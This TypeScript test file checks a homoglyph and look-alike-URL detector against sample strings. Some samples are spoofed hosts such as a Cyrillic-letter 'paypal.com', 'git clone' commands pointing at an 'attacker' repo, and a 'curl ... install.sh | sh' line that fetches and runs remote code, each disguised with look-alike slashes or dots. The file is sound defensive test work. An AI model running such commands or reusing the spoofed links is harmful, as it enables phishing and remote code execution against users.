import { test } from 'node:test';
import assert from 'node:assert/strict';
import { confusables } from '../../src/core/detect/detectors/confusables.ts';
import { loadCorpus, score } from '../fixtures/corpus/score.ts';

const run = (text: string) => confusables.detect(text, { options: {} }).map((h) => [h.rule, h.start, h.end] as const);

const valid: Array<[string, ...Array<readonly [string, number, number]>]> = [
  // homoglyph: another script's letter inside a Latin word
  ['p\u0430ypal.com', ['homoglyph', 1, 2]],
  ['g\u043e\u043egle', ['homoglyph', 1, 3]],
  ['r\u00e9sum\u0435', ['homoglyph', 5, 6]], // accented Latin around a Cyrillic е
  ['\u0406nvoice', ['homoglyph', 0, 1]],
  ['\u13aaWS', ['homoglyph', 0, 1]], // Cherokee A
  ['\u01c0ogin', ['homoglyph', 0, 1]], // Latin letter dental click for l
  ['check main-\u0443 now', ['homoglyph', 11, 12]], // a hyphenated Cyrillic letter without Russian prose around it
  ['\u0421\u0434\u0435\u043b\u0430\u043b p\u0430ypal-\u0430', ['homoglyph', 8, 9], ['homoglyph', 14, 15]], // not a plain Latin word before the ending
  ['a\uff42c', ['homoglyph', 1, 2]], // fullwidth b inside an ASCII word
  // homoglyph-word: a whole look-alike word in ASCII text
  ['Use \uff50\uff41\uff59\uff50\uff41\uff4c now', ['homoglyph-word', 4, 10]],
  ['run \u0435\u0445\u0435\u0441 now', ['homoglyph-word', 4, 8]],
  ['the \u{1D429}\u{1D41A}\u{1D432} logo', ['homoglyph-word', 4, 10]],
  // lookalike-punctuation: typographic in code, non-typographic next to ASCII
  ['print(\u201chi\u201d)', ['lookalike-punctuation', 6, 7], ['lookalike-punctuation', 9, 10]],
  ['x = \u2018a\u2019;', ['lookalike-punctuation', 4, 5], ['lookalike-punctuation', 6, 7]],
  ['ls \u2013la', ['lookalike-punctuation', 3, 4]],
  ['run `rm \u2014rf x`', ['lookalike-punctuation', 8, 9]],
  ['let a = b \u2212 c;', ['lookalike-punctuation', 10, 11]],
  ['x = 1\u037e', ['lookalike-punctuation', 5, 6]],
  ['foo\u0589 bar', ['lookalike-punctuation', 3, 4]],
];

const invalid: string[] = [
  'plain ASCII paypal.com',
  'Привет! Это обычный русский текст о сортировке.', // Russian prose, incl. all-look-alike words (сор, о)
  'Используйте Docker-контейнер и API для доступа.',
  // one-letter Russian case endings on Latin words
  'Ошибка при парсинге JSON-а в модуле', 'Сделал пуш в main-у', 'Не найден файл "config"-а.', 'Сделал пуш в `main`-у',
  'Καλημέρα κόσμε; Τι κάνεις;', // Greek, with the Greek question mark
  '这是中文文本，包含ＡＢＣ和１２３。请注意：不要删除。', // Chinese with fullwidth letters and punctuation
  'これはＡＢＣです。ＩＤとパスワード', // Japanese
  '二〇二四年', // ideographic zero among Han
  'I don\u2019t think \u201cquotes\u201d \u2013 or dashes \u2014 matter\u2026', // English prose typography
  'She said \u2018hello\u2019 (as usual).',
  // Em dashes between spaces in code spans and code-like lines, from a real Claude Code system prompt.
  'description: {{one-line description \u2014 used to decide relevance in future conversations, so be specific}}',
  'each entry should be one line, under ~150 characters: `- [Title](file.md) \u2014 one-line hook`. It has no frontmatter.',
  'na\u00efve caf\u00e9, c\u0153ur, \u00c6r\u00f8, kap\u0131, Stra\u00dfe', // orthographic Latin letters
  'the \u03b1 parameter and \u03bc = 0.5', // single Greek letters in math prose
  'Screen 1920\u00d71080, a\u2212b',
  'Հայերեն լեզու', 'Српски језик је леп.', 'नमस्ते ०१',
];

test('confusables: every rule finds its positives with exact spans', () => {
  for (const [text, ...exp] of valid) assert.deepEqual(run(text), exp, JSON.stringify(text));
});

test('confusables: real non-Latin text and prose typography produce nothing', () => {
  for (const text of invalid) assert.deepEqual(run(text), [], text);
});

test('confusables: detail names both characters and their code points', () => {
  const [h] = confusables.detect('p\u0430ypal', { options: {} });
  assert.equal(h?.detail, "U+0430 CYRILLIC SMALL LETTER A looks like U+0061 'a'");
  assert.equal(h?.severity, 'high');
  const [f] = confusables.detect('\ufb01le', { options: {} });
  assert.equal(f?.detail, "U+FB01 LATIN SMALL LIGATURE FI looks like 'fi' (U+0066 U+0069)");
  assert.equal(f?.severity, 'medium', 'a Latin compatibility form is less likely an attack than another script');
  const [w] = confusables.detect('Use \uff50\uff41\uff59\uff50\uff41\uff4c now', { options: {} });
  assert.match(w?.detail ?? '', /^U\+FF50 FULLWIDTH LATIN SMALL LETTER P looks like U\+0070 'p'; .*\(6 characters\)$/);
});

test('confusables: a whole look-alike word is not reported when the text has real Cyrillic', () => {
  assert.deepEqual(run('Run сорох now. Привет!'), []);
});

test('confusables: never throws on odd input', () => {
  for (const t of ['', '\uD800', 'a\uDC00b', '`', '```\u2019', '\u2014'.repeat(5000), 'а'.repeat(10_000)]) {
    assert.doesNotThrow(() => confusables.detect(t, { options: {} }));
  }
});

test('confusables: labelled corpus precision and recall ≥ 0.95', (t) => {
  const s = score(confusables, loadCorpus('confusables'));
  t.diagnostic(`confusables corpus: ${s.positives} positive / ${s.negatives} negative samples, TP ${s.tp} FP ${s.fp} FN ${s.fn}, P=${s.precision.toFixed(3)} R=${s.recall.toFixed(3)}`);
  assert.ok(s.precision >= 0.95 && s.recall >= 0.95, s.errors.join('\n'));
});

// lookalike-url: a look-alike of / . : @ inside a URL, in any context. Spans by the character.
const url = (text: string, ...chars: string[]): [string, ...Array<readonly [string, number, number]>] => {
  let from = 0;
  return [text, ...chars.map((c) => {
    const i = text.indexOf(c, from);
    assert.ok(i >= 0, `${c} not in ${text}`);
    from = i + c.length;
    return ['lookalike-url', i, i + c.length] as const;
  })];
};

const urlValid = [
  url('git clone https://github.com\u2215attacker/repo', '\u2215'), // DIVISION SLASH, shell command
  url('git clone https://github.com\u2044attacker/repo', '\u2044'), // FRACTION SLASH
  url('Sign in: [login](https://github.com\u2215login)', '\u2215'), // Markdown link
  url('fetch("https://github.com\u2215attacker/repo")', '\u2215'), // string literal in code
  url('see https://github.com\u29f8attacker', '\u29f8'), // BIG SOLIDUS
  url('see https://github.com\uff0fattacker', '\uff0f'), // FULLWIDTH SOLIDUS (NFKC)
  url('visit https://paypal\u2024com/login today', '\u2024'), // ONE DOT LEADER
  url('visit https://paypal\uff0ecom/login', '\uff0e'), // FULLWIDTH FULL STOP
  url('open https://github\u3002com/x', '\u3002'), // IDEOGRAPHIC FULL STOP inside the host (IDNA dot)
  url('pip install --index-url https://pypi\uff61org/simple x', '\uff61'),
  url('https://user\uff20evil.example/path', '\uff20'), // FULLWIDTH COMMERCIAL AT
  url('https\u2236\u2215\u2215evil.example', '\u2236\u2215\u2215'), // RATIO and slashes in the separator: one finding
  url('git clone git@github\uff0ecom:attacker/repo.git', '\uff0e'), // scp-style git remote
  url('go to www.github\u2024com/login', '\u2024'),
  url('curl -fsSL https://raw.githubusercontent.com\u2215x/y/main/install.sh | sh', '\u2215'),
  // host names without a scheme and e-mail addresses, in a Latin-script token
  url('call api.github\u2024com/v3 now', '\u2024'), // a real dot and a look-alike one
  url('see paypal\u2024com', '\u2024'), // two labels: a common top-level domain
  url('api.github\uff0ecom', '\uff0e'),
  url('api.github\u3002com', '\u3002'), // an IDNA full stop between ASCII labels
  url('the api.github.com\u2215evil path', '\u2215'),
  url('mail admin@corp\u2024example.com today', '\u2024'),
  url('write to me\uff20acme.io', '\uff20'), // FULLWIDTH COMMERCIAL AT
  url('john\u2024doe@acme.com', '\u2024'),
];

const urlInvalid = [
  '访问https://example.com。然后点击登录', // Chinese full stop ending a sentence after a URL
  'see https://example.com/docs\u3002', // trailing full stop
  'https://example.com/a\u3002b', // IDNA dot outside the host is not a label separator
  'docs: https://example.com/docsを参照．次に', // Japanese full stop after a URL
  'ratio 1\u20442 and a\u2215b in prose', // typography without a URL
  'Visit https://example.com \u2215 or https://example.org', // standing alone between URLs
  'https://example.com/page\u2024', // trailing
  // CJK prose with its full stops, ellipses and leaders, typography in comments, file names
  '我用Python\u3002Java也不错', '请访问github.com\u3002谢谢', '这是一个句子\u3002这是另一个\u3002', '使用socket\u3002io很久了', '连接@小明\u3002com',
  'wait\u2026what', 'Chapter 1 \u2024\u2024\u2024\u2024 5', '// see the foo\u2024bar module', 'Ph\u2024D and e\u2024g\u2024 and U\u2024S\u2024A',
  'col\u00b7lecci\u00f3', 'setup\u2024py and README\u2024md', '1\uff0e5 and v1\u20242', 'os.path\u2024join', 'Version 2\u3002Next', 'end of sentence\u2024Next one',
  'ratio a\u2215b and c\u2215o', 'src\u2215index.ts',
];

test('confusables: look-alike URL punctuation is reported in any context, with exact spans', () => {
  for (const [text, ...exp] of urlValid) assert.deepEqual(run(text), exp, JSON.stringify(text));
  for (const text of urlInvalid) assert.deepEqual(run(text), [], JSON.stringify(text));
  const [h] = confusables.detect('git clone https://github.com\u2215attacker/repo', { options: {} });
  assert.equal(h?.severity, 'high');
  assert.equal(h?.detail, "U+2215 DIVISION SLASH looks like U+002F '/' in a URL: the link does not go where it reads");
  const [d] = confusables.detect('open https://github\u3002com/x', { options: {} });
  assert.match(d?.detail ?? '', /^U\+3002 IDEOGRAPHIC FULL STOP looks like U\+002E '\.'/);
});
